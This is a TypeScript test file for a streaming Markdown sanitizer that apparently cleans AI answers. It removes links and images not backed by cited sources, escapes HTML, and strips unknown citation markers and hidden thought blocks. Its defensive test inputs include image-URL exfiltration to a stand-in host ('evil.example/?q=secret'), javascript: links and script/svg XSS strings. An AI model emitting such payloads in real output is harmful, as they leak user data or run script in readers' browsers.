import { describe, expect, test } from 'bun:test'
import { createLinkRule } from './links.ts'
import { createMarkdownStream, type MarkdownStream } from './markdown-stream.ts'
import { createQuotationRule } from './quotations.ts'

const passages = [
  {
    title: 'Locks',
    headingPath: ['Locks'],
    language: 'en',
    text: 'The manual is at https://docs.example.org/locks?a=1&b=2 and on [our page](/toll.md). Sluices are opened at dawn by the keeper.',
    url: null,
  },
  {
    title: 'Tolls',
    headingPath: ['Tolls'],
    language: 'en',
    text: 'Tolls are due.',
    url: 'https://book.example.org/toll#due',
  },
]

/** Markers of the two sources stay, others go. */
function open(): { readonly stream: MarkdownStream; written(): string } {
  let text = ''
  const write = (more: string): string => {
    text += more
    return more
  }
  const stream = createMarkdownStream({
    mayLink: createLinkRule(passages),
    quote: createQuotationRule({ passages, asked: [] }),
    cite(numbers, lead) {
      const known = numbers.filter((n) => n === 1 || n === 2)
      return known.length === 0 ? '' : write(`${lead}${known.map((n) => `[${n}]`).join('')}`)
    },
    write,
  })
  return { stream, written: () => text }
}

/** Whole, and in pieces of every size up to five. */
function shown(answer: string): string {
  const results = [answer.length || 1, 1, 2, 3, 4, 5].map((size) => {
    const { stream, written } = open()
    for (let at = 0; at < answer.length; at += size) stream.push(answer.slice(at, at + size))
    stream.end()
    return written()
  })
  expect(new Set(results).size).toBe(1)
  return results[0] ?? ''
}

describe('an address that no source holds is taken out', () => {
  test.each([
    ['of an image', 'See ![x](https://evil.example/?q=secret) here.', 'See  here.'],
    ['after a carriage return', '```\r\nx\r\n```\r![i](https://evil.example/x).', '```\r\nx\r\n```\n\u00a0.'],
    ['between two of them', 'a\r![i](https://evil.example/x)\r', 'a\n\u00a0\n'],
    ['with a title', '![x](https://evil.example/p.png "a title").', '\u00a0.'],
    ['of a link', 'See [the page](https://evil.example/a) here.', 'See the page here.'],
    ['of a link in brackets', '[the [inner] page](<https://evil.example/a b>)', 'the [inner] page'],
    ['of an image that is a link', '[![alt](https://evil.example/i)](https://evil.example/l) end', '\u00a0 end'],
    ['that names itself', '[https://evil.example](https://evil.example)', '\u00a0'],
    ['that stands bare', 'Go to https://evil.example/a?b=c. Then', 'Go to . Then'],
    ['without a scheme', 'Go to www.evil.example, then', 'Go to , then'],
    ['in another case', 'HTTPS://EVIL.example/x', '\u00a0'],
    ['in angle brackets', '<https://evil.example> and <mailto:a@evil.example>', '\u00a0 and '],
    ['of mail', 'Write to a@evil.example.', 'Write to a.'],
    ['that runs', '[click](javascript:alert(1))', 'click'],
    ['that a source only begins', '[more](https://docs.example.org/locks?a=1&b=2&q=secret)', 'more'],
    ['of a definition', '![x][y]\n\n[y]: //evil.example/x "z"\n', '![x][y]\n\n[y]: <>\n'],
    ['of a definition over two lines', '![x][a\nb]\n\n[a\nb]: //evil.example/x\n', '![x][a\nb]\n\n[a\nb]: <>\n'],
    ['over two lines', '![a\nb](//evil.example/x\n"a\ntitle").', '\u00a0.'],
    ['behind a marker', 'At dawn [1](https://evil.example/1).', 'At dawn [1].'],
    ['behind two markers', 'At dawn [1][2](javascript:a).', 'At dawn [1][2].'],
    ['of a marker', '[1]: https://evil.example/\n', '[1]\\: \n'],
    ['after a fence indented by four', '    ```\n![x](https://evil.example/)', '    ```\n\u00a0'],
    ['after a fence that a dedent ends', '- ```\n  code\n![x](https://evil.example/) a', '- ```\n  code\n\u00a0 a'],
    ['after a fence of one line', '``` x ``` ![x](https://evil.example/) a', '``` x ```  a'],
    ['after a backtick in the info', '```js `x`\n![x](https://evil.example/) a', '\\`\\`\\`js `x`\n\u00a0 a'],
    ['that would come together', 'Write to a@![x](//evil.example)b.com.', 'Write to a@ b.com.'],
    ['behind a marker that goes', 'See <[9]https://evil.example> here.', 'See < > here.'],
    [
      'of a definition that is a row',
      '![x][a | b]\n\n[a | b]: //evil.example\n---|---\n',
      '![x][a | b]\n\n\\[a | b]: //evil.example\n---|---\n',
    ],
    [
      'of a definition with a row for a title',
      "[a]: //evil.example 'b | c'\n---|---\n",
      "[a]\\: //evil.example 'b | c'\n---|---\n",
    ],
    ['right behind a link', '[t]()www.evil.example a', '[t]() a'],
    ['behind a marker that goes with its space', 'So: [9]www.evil.example a', 'So: a'],
    ['right behind emphasis', '**t**www.evil.example a', '**t**  a'],
    ['that is a word of a source', '[x](dawn) and ![x](Sluices) a', 'x and  a'],
    ['before code in an item', '- <https://evil.example>\n\n  ```\n  x\n  ```\n', '- \u00a0\n\n  ```\n  x\n  ```\n'],
    ['between pieces of code', '    a\nhttps://evil.example\n\n    b\n', '    a\n\u00a0\n\n    b\n'],
    ['in a table', '| ` | ![x](https://evil.example) ` |\n|---|---|\n', '| \\` |  \\` |\n|---|---|\n'],
  ])('%s', (_, answer, expected) => {
    expect(shown(answer)).toBe(expected)
  })
})

describe('HTML is text', () => {
  test.each([
    ['<script>alert(1)</script>', '&lt;script>alert(1)&lt;/script>'],
    ['a<svg onload=alert(1)>b', 'a&lt;svg onload=alert(1)>b'],
    ['Press <kbd>Enter</kbd>.', 'Press &lt;kbd>Enter&lt;/kbd>.'],
    ['<!--\n```\n-->\n![x](https://evil.example/)\n```\n', '&lt;!--\n```\n-->\n![x](https://evil.example/)\n```\n'],
    ['if a < b && c > d', 'if a < b && c > d'],
    ['https://docs.example.org/locks?a=1&b=2<p', 'https://docs.example.org/locks?a=1&b=2 &lt;p'],
    ['`<b>` and\n\n```\n<b>\n```\n', '`<b>` and\n\n```\n<b>\n```\n'],
  ])('%s', (answer, expected) => {
    expect(shown(answer)).toBe(expected)
  })
})

describe('a marker that names no source goes, wherever it hides', () => {
  test.each([
    ['Said [9]. And [1].', 'Said. And [1].'],
    ['``` x ``` [1][9] and', '``` x ``` [1] and'],
    ['Said [**9**], \\[9\\], [&#57;] and [[9]9].', 'Said,, and9.'],
    ['In [1998] and [12345].', 'In \\[1998\\] and \\[12345\\].'],
    ['[[9]](/toll.md "a title") and', '[ ](/toll.md) and'],
    ['Cut off [1', 'Cut off'],
    ['Cut off 【1', 'Cut off'],
    ['Said【[9]9】. And【[1]】.', 'Said9】. And[1].'],
    ['At dawn【https://evil.example[[9]9]\nor', 'At dawn9\nor'],
    ['At dawn 【[9]【9】9】 or', 'At dawn9】 or'],
    ['At dawn 【<think>x</think>9】 or', 'At dawn 9】 or'],
    ['No 【 is `cut off`', 'No 【 is `cut off`'],
    ['Open `code[1]', 'Open \\`code[1]'],
  ])('%s', (answer, expected) => {
    expect(shown(answer)).toBe(expected)
  })
})

describe('a thought goes, with all that it names', () => {
  test.each([
    ['Yes. <think>Maybe [2]?\n\n```\n</think>No [1].', 'Yes. No [1].'],
    ['At dawn.\n\n◁think▷hm◁/think▷\n\nNo [1].', 'At dawn.\n\n\n\nNo [1].'],
    ['Use `<think>` here [1].', 'Use `<think>` here [1].'],
    ['Yes </think>no', 'Yes no'],
  ])('%s', (answer, expected) => {
    expect(shown(answer)).toBe(expected)
  })
})

describe('what is no quotation loses its marks', () => {
  test.each([
    [
      'It says: "Sluices are opened at dawn by the keeper" [1].',
      'It says: "Sluices are opened at dawn by the keeper" [1].',
    ],
    ['They are "the shining gates of heaven" [1].', 'They are the shining gates of heaven [1].'],
    [
      '> Sluices are opened at dawn by the keeper.\n> Nobody is ever charged.\n',
      'Sluices are opened at dawn by the keeper.\nNobody is ever charged.\n',
    ],
    [
      '- > Nobody is ever charged at all.\n  > ===\n\n      code\n',
      '- > Nobody is ever charged at all.\n  > ===\n\n      code\n',
    ],
    ['At noon\n> nobody is ever charged\nat all.\n\nYes.', 'At noon\n\nnobody is ever charged\nat all.\n\nYes.'],
    ['Run `echo "words of no source at all"` twice.', 'Run `echo "words of no source at all"` twice.'],
    [
      'A plank of 5" and one of 6" make a long and winding bridge.',
      'A plank of 5" and one of 6" make a long and winding bridge.',
    ],
    ['One "begins here\n\nand ends" there.', 'One "begins here\n\nand ends" there.'],
  ])('%s', (answer, expected) => {
    expect(shown(answer)).toBe(expected)
  })
})

describe('everything else stays as it is', () => {
  test.each([
    'Read [the manual](https://docs.example.org/locks?a=1&b=2) [1].',
    'Read https://docs.example.org/locks?a=1&amp;b=2.',
    'See [our page](/toll.md), and [tolls](https://book.example.org/toll).',
    '```sh\ncurl https://example.com/api\n![x](https://example.com) [9]\n```\n\nDone [1].',
    '~~~\n<img src="https://example.com">\n~~~\n',
    '- one\n  ~~~\n  x[9]\n  ~~~\n- [ ] two\n- [x] three\n\n| a | b |\n| - | - |\n| `c d` | e |\n',
    'Schleuse öffnet 水門 👩‍🔧 [1].',
    'A bracket [ and an ! and http and www and h',
    '# No 【\n    code\n',
    '# Title #\n\nText\n===\n\n***\n\n1. a\n   > b\n',
    '',
  ])('%j', (answer) => {
    expect(shown(answer)).toBe(answer)
  })
})

describe('another text stands apart', () => {
  test.each([
    ['Words', '\n\n'],
    ['~~~sh\nlock', '\n~~~\n\n'],
    ['Words\n\n````\nlock\n\n', '````\n\n'],
    ['```\nlock\n```\n', '\n\n'],
    ['- ```\n  lock', '\n\n'],
  ])('behind %j', (answer, parting) => {
    const { stream } = open()
    stream.push(answer)
    stream.end()
    expect(stream.parting).toBe(parting)
  })
})

describe('text is held back', () => {
  test('no longer than needed', () => {
    const { stream, written } = open()
    const after = (text: string): string => {
      stream.push(text)
      return written()
    }
    expect(after('Sluices are opened at dawn')).toBe('Sluices are opened at dawn')
    expect(after(' [1]')).toEndWith('dawn')
    expect(after('. Say ')).toEndWith(' [1]. Say')
    expect(after('`a` [b')).toEndWith('Say `a`')
    expect(after('] and')).toEndWith('`a` [b] and')
    expect(after(' "Sluices are')).toEndWith(' and')
    expect(after(' opened at dawn" or')).toEndWith(' and "Sluices are opened at dawn" or')
  })

  test('for so long at most', () => {
    const { stream, written } = open()
    for (const text of ['A [', ...Array.from({ length: 300 }, () => 'word and ')]) stream.push(text)
    expect(written().length).toBeGreaterThan(100)
    stream.push('](https://evil.example)')
    stream.end()
    expect(written()).not.toContain('evil.example')
  })

  test('and what was sent of an address is not taken out again and again', () => {
    const { stream, written } = open()
    for (const piece of ['*&x【9】: ', ' [9]www.', 'evil.ex', 'ample [ <!--!&#', '91;x*[9]|**_']) stream.push(piece)
    stream.end()
    expect(written()).toBe('*&x: [ &lt;!--!&#91;x* |**_')
  })

  test('and a hostile text takes no long time', () => {
    const { stream } = open()
    const started = performance.now()
    for (const piece of ['[', '![', '](', '<a ', '`', 'http', '\\', '[[', '> ', '- ', '|'])
      for (let n = 0; n < 400; n += 1) stream.push(piece)
    stream.end()
    expect(performance.now() - started).toBeLessThan(20_000)
  }, 30_000)
})
